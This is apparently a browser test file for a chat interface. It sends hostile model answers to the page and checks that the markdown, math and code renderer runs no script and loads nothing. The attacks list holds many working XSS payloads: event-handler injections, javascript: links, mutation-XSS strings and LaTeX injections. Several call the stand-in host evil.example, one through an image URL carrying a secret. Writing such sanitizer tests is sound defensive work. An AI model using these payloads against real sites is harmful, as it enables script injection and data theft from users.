// Answers that attack the page: nothing runs, nothing is loaded, nothing but text and links comes of them.
import assert from 'node:assert/strict';
import { answerWith, intercept, open, passed, press, send, shows, texts } from './browser.mjs';

const evil = 'https://evil.example';
const attacks = [
  '<script>window.ran = 1</script><script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.ran = 2"> <svg onload="window.ran = 3"></svg><svg><script>window.ran = 4</script></svg>',
  '<iframe srcdoc="<script>parent.ran = 5</script>"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  `[one](javascript:window.ran=6) [two](JaVaScRiPt:window.ran=7) [three](data:text/html,<script>window.ran=8</script>) [four](vbscript:x) <javascript:window.ran=9>`,
  `[five](java\tscript:window.ran=10) [six](&#106;avascript:window.ran=11) [seven](  javascript:window.ran=12 "x")`,
  `![picture](${evil}/tracker.png?secret) ![](${evil}/other.png)\n\n[![inner](${evil}/in.png)](${evil}/out)`,
  `<style>@import url("${evil}/a.css"); body { background: url(${evil}/b.png) }</style><link rel=stylesheet href="${evil}/c.css">`,
  `<meta http-equiv="refresh" content="0; url=${evil}/"><base href="${evil}/"><form action="${evil}/"><button>press</button></form>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=13&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=14>">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=15>">',
  '<div id="app" class="side" onclick="window.ran=16" style="position:fixed;inset:0">over all</div><template><script>window.ran=17</script></template>',
  '$\\href{javascript:window.ran=18}{x}$ $\\url{https://evil.example/}$ $\\includegraphics{https://evil.example/m.png}$ $\\style{background:url(https://evil.example/s.png)}{x}$',
  '$\\text{</math><img src=x onerror=window.ran=19>}$ $\\htmlData{a=b}{x}$ $$\\class{side open}{\\id{message}{y}}$$ $\\color{red;background:url(https://evil.example/k.png)}{x}$',
  '```"><img src=x onerror=window.ran=20>\ncode</code></pre><script>window.ran=21</script>\n```',
  '```html\n<script>window.ran = 22</script>\n```',
  `[ref]: javascript:window.ran=23 "t"\n\n[ref] and [x][ref]\n\n<a href="javascript:window.ran=24">y</a>`,
  '| <img src=x onerror=window.ran=25> | b |\n|--|--|\n| <script>window.ran=26</script> | [c](javascript:window.ran=27) |',
  `<video src="${evil}/v.mp4" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><picture><source srcset="${evil}/p.png"></picture>`,
  '&lt;script&gt;window.ran=28&lt;/script&gt; \u202e\u0000<scr\u0000ipt>window.ran=29</script>',
  `${'> '.repeat(300)}deep\n\n${'- '.repeat(200)}deeper`,
  `${'*a '.repeat(2000)}\n\n${'['.repeat(2000)}\n\n$${'{'.repeat(500)}$`,
];

/** What stands in an answer that should not. */
function found() {
  const allowed = new Set(
    'A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL DIV BUTTON'.split(' '),
  );
  const wrong = [];
  for (const element of document.querySelectorAll('.text *')) {
    const math = element.namespaceURI === 'http://www.w3.org/1998/Math/MathML';
    if (!math && !allowed.has(element.tagName)) wrong.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (/^on|^src|^srcset|^formaction|^xlink|^id$/.test(name)) wrong.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?:|mailto:)/.test(value)) wrong.push(`href=${value}`);
      if (/url\(|javascript:/i.test(value) && name !== 'href') wrong.push(`${name}=${value}`);
    }
    if (element.tagName === 'A' && element.href && (element.rel !== 'noopener noreferrer nofollow' || element.target !== '_blank')) wrong.push(element.outerHTML);
  }
  return { wrong, ran: window.ran ?? null };
}

export async function hostile(server) {
  const page = await open(server.url);
  await page.waitForSelector('select.model');
  for (const attack of attacks) {
    await press(page, 'New chat');
    const restore = await intercept(page, answerWith(attack, { reasoning: attack }));
    await send(page, attack);
    await page.$eval('.reasoning', (details) => (details.open = true));
    // Frames of the screen: what would be loaded or run has had its chance.
    await page.evaluate(() => new Promise((later) => requestAnimationFrame(() => requestAnimationFrame(later))));
    assert.deepEqual(await page.evaluate(found), { wrong: [], ran: null }, attack);
    await restore();
  }
  passed(`${attacks.length} hostile answers run nothing and load nothing`);

  // What is well meant is shown.
  await press(page, 'New chat');
  const text = 'Some **bold** and $x^2$.\n\n$$\\frac{a}{b}$$\n\n```rust\nfn main() {}\n```\n\n- [x] done\n\n[link](https://example.org/)\n\n| a | b |\n|--|--:|\n| 1 | 2 |';
  const restore = await intercept(page, answerWith(text, { reasoning: 'I **think**.' }));
  await send(page, 'Show it');
  await restore();
  const [shown, folded] = await page.$$eval('.message:not(.mine)', ([message]) => [
    ['strong', 'math', 'math[display=block] mfrac', '.hljs-keyword', 'input[type=checkbox]', 'td[align=right]'].map((one) => message.querySelector(`:scope > .text ${one}`) !== null),
    message.querySelector('.reasoning').open,
  ]);
  assert.deepEqual([shown, folded], [[true, true, true, true, true, true], false]);
  await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (copied) => void (window.copied = copied) } }));
  await page.click('.code button');
  await shows(page, 'Copied');
  assert.equal(await page.evaluate(() => window.copied), 'fn main() {}');
  assert.deepEqual((await texts(page, '.code-head span')).at(-1), 'rust');
  passed('markdown, code with copy, mathematics and folded reasoning are shown');

  // A long answer: only its last blocks are rendered again.
  await press(page, 'New chat');
  const long = Array.from({ length: 1500 }, (_, i) => `Paragraph ${i} with *some* words and \`code\`.`).join('\n\n');
  const restoreLong = await intercept(page, answerWith(long));
  await send(page, 'Write much');
  await restoreLong();
  assert.equal(await page.$$eval('.text .block', (all) => all.length), 1500);
  assert.deepEqual(await page.evaluate(found), { wrong: [], ran: null });
  passed('a long answer is shown whole');
  await page.browserContext().close();
}
